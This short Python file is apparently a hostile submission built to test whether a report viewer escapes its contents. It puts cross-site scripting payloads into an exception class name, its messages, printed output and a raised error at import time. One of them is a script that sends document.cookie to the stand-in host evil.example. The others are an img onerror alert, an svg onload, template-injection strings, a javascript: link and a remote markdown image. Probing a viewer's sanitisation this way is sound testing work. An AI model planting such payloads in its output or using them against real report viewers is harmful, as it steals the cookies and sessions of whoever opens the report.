"""Puts scripts, pictures and links into its name, its messages and its output, for whoever opens the report."""

SUBMITTED_AS = "<img src=x onerror=alert(document.cookie)>"
HTML = "</pre></title><script>fetch('//evil.example/'+document.cookie)</script><svg onload=alert(1)>{{7*7}}{% raw %}"


class Evil(Exception):
    pass


Evil.__name__ = Evil.__qualname__ = HTML


def unlock(salt):
    raise Evil(HTML)


print(HTML, "<iframe srcdoc='x'>", "![x](https://evil.example/x.png)", "[x](javascript:alert(1))")
raise Evil(HTML)


def shift(x):
    return x + 1
